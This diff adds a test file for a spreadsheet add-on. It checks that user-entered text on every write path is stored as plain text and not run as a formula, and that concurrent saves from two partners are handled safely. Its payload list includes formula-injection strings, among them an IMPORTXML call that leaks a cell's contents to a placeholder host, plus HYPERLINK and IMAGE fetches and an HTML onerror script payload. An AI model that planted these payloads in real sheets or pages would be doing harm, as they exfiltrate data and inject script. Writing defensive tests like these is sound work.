@@ -1,0 +1,113 @@
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { type AppsScriptDouble, createAppsScriptDouble } from '../double';
+import { setUpWorkbook } from '../../src/workbook/setup';
+import { appendCommitments, updateCommitment } from '../../src/workbook/commitments-log';
+import { BusyError } from '../../src/workbook/lock';
+import { SIDEBAR_HANDLERS } from '../../src/sidebar/handlers';
+import { COMMITMENTS } from '../../src/workbook/templates';
+
+export const INJECTION_PAYLOADS = [
+  '=IMPORTXML("http://x/?"&A1,"//a")',
+  '=HYPERLINK("http://evil.example","click")',
+  '+cmd',
+  '-2+3',
+  '@SUM(1)',
+  '\t=1',
+  '\n=1',
+  ' =1+1',
+  '=1+1',
+  "'=1+1",
+  '00123',
+  '1/2',
+  'Mar 1',
+  'TRUE',
+  '$5',
+  '12%',
+  '1e3',
+  '+5',
+  '-5',
+  '=IMAGE("http://x/a.png")',
+  '\u0007=CMD()',
+  '<img src=x onerror=alert(1)>',
+];
+
+let double: AppsScriptDouble;
+let uninstall: () => void;
+const SIDES = ['Acme', 'Beta'];
+
+beforeEach(() => {
+  double = createAppsScriptDouble();
+  uninstall = double.install(globalThis);
+  setUpWorkbook();
+  double.spreadsheet.getSheetByName('Partnership')!.getRange(2, 1, 1, 3).setValues([["'Acme", "'Beta", 'Strategic']]);
+});
+afterEach(() => uninstall());
+
+const log = () => double.inspect.values(COMMITMENTS.title);
+const logFormulas = () => double.inspect.formulas(COMMITMENTS.title);
+/** What the add-on stores for typed text: the text itself, minus control characters it strips. */
+const stored = (payload: string) => payload.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/g, '');
+
+describe('formula injection: user text is stored as literal text on every write path', () => {
+  it.each(INJECTION_PAYLOADS.map((p) => [JSON.stringify(p), p] as const))('append commitment %s', (_label, payload) => {
+    appendCommitments([{ commitment: payload, ownerSide: 'Acme', ownerPerson: payload, corner: 'Reliability', dueDate: '2026-12-31' }], SIDES);
+    const row = log()[1];
+    // Names and commitments are trimmed; what remains is kept exactly, as text.
+    expect(row[1]).toBe(stored(payload).trim());
+    expect(row[3]).toBe(stored(payload).trim());
+    expect(logFormulas()[1].every((formula) => formula === '')).toBe(true);
+  });
+
+  it('update commitment, assessment evidence and names keep every payload as text', () => {
+    const [id] = appendCommitments([{ commitment: 'x', ownerSide: 'Acme', ownerPerson: 'Ana', corner: '', dueDate: '2026-12-31' }], SIDES);
+    for (const payload of INJECTION_PAYLOADS) {
+      updateCommitment(id, { recoveryPlan: payload });
+      expect(log()[1][11]).toBe(stored(payload));
+      SIDEBAR_HANDLERS.saveIdentity({ displayName: payload.trim() === '' ? 'x' : payload, side: 'Acme' });
+      SIDEBAR_HANDLERS.submitAssessment({
+        cycle: '2026-Q4', sealed: false, side: 'Acme', participant: payload,
+        ratings: { Competence: 5, Reliability: 6, Transparency: 7, Alignment: 8 },
+        evidence: { Competence: payload, Reliability: '', Transparency: '', Alignment: '' },
+      });
+      const assessments = double.inspect.values('Assessments');
+      const last = assessments[assessments.length - 1];
+      expect(last[3]).toBe(stored(payload));
+      expect(last[9]).toBe(stored(payload));
+    }
+    for (const sheet of ['Shared Commitments Log', 'Assessments', 'Change History']) {
+      expect(double.inspect.formulas(sheet).flat().filter((f) => f !== ''), sheet).toEqual([]);
+    }
+  });
+});
+
+describe('concurrent saves from two partners', () => {
+  it('keeps every row with unique ids and reports saves that could not get the lock', () => {
+    const saved: string[] = [];
+    const refused: string[] = [];
+    for (let index = 0; index < 60; index++) {
+      double.setActiveUser(index % 2 ? 'ben@beta.example' : 'ana@acme.example');
+      if (index % 7 === 3) double.lock.failNext(1);
+      const text = `commitment ${index}`;
+      try {
+        saved.push(...appendCommitments([{ commitment: text, ownerSide: SIDES[index % 2], ownerPerson: 'P', corner: '', dueDate: '2026-12-31' }], SIDES));
+      } catch (error) {
+        expect(error).toBeInstanceOf(BusyError);
+        expect((error as Error).message).toMatch(/other side is saving/);
+        refused.push(text);
+      }
+      expect(double.lock.holder()).toBeNull();
+    }
+    const rows = log().slice(1).filter((row) => row[0] !== '');
+    expect(rows).toHaveLength(saved.length);
+    expect(new Set(rows.map((row) => row[0])).size).toBe(rows.length);
+    expect(refused.length).toBeGreaterThan(0);
+    expect(saved.length + refused.length).toBe(60);
+    for (const text of refused) expect(rows.some((row) => row[1] === text)).toBe(false);
+  });
+
+  it('writes nothing when the lock is held by the other side', () => {
+    double.lock.holdByOther();
+    expect(() => appendCommitments([{ commitment: 'x', ownerSide: 'Acme', ownerPerson: '', corner: '', dueDate: '2026-12-31' }], SIDES)).toThrow(BusyError);
+    expect(log().length).toBeLessThanOrEqual(1);
+  });
+});
